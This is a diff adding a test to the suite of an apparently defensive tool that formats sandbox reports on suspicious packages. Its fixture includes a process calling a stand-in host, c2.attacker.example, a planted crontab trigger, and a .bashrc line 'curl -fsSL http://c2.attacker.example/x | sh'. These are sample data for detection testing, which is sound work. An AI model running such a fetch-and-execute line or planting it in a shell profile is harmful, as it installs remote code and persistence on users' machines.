@@ -141,3 +141,26 @@ describe('clean', () => {
     expect(clean('x'.repeat(20), 10)).toBe(`${'x'.repeat(9)}…`);
   });
 });
+
+describe('formatReport: the later phases', () => {
+  const later: Report = structuredClone(maliciousReport);
+  later.behavior.processes.push({ pid: 900, ppid: null, phase: 'install', argv: ['curl', 'http://c2.attacker.example/x'], cwd: '/', startMs: 9000, endMs: 9100, exit: { code: 0, signal: null }, trigger: 'after 15 min (fast clock)' });
+  later.behavior.calls = [
+    { phase: 'execute', kind: 'call', name: 'loadConfig()', of: 'imitation-stealer', pid: 50, startMs: 1, endMs: 2, outcome: 'returned' },
+    { phase: 'execute', kind: 'bin', name: 'stealer --help', pid: 51, startMs: 3, endMs: 3003, outcome: 'timeout' },
+    { phase: 'next-login', kind: 'trigger', name: 'crontab entry (added during install)', pid: 60, startMs: 5, endMs: 6, outcome: 'exit 0' },
+  ];
+  later.behavior.contents = [
+    { phase: 'install', path: '/home/vbx-7f3a/.bashrc', reason: 'persistence', size: 120, sha256: 'c'.repeat(64), format: 'data', encoding: 'utf8', content: '\ncurl -fsSL http://c2.attacker.example/x | sh\n', truncated: false },
+  ];
+  const text = formatReport(later);
+
+  it('shows what was called and run, the trigger of a process, and the captured content', () => {
+    expect(Report.safeParse(later).error).toBeUndefined();
+    expect(text).toMatch(/Calls\n {2}execute +1 call, 1 command +1 timed out\n {2}next-login +1 planted command/);
+    expect(text).toMatch(/ran {2}crontab entry \(added during install\) {2}exit 0/);
+    expect(text).toContain('← after 15 min (fast clock)');
+    expect(text).toContain('Captured content (1)');
+    expect(text).toContain('"curl -fsSL http://c2.attacker.example/x | sh"');
+  });
+});
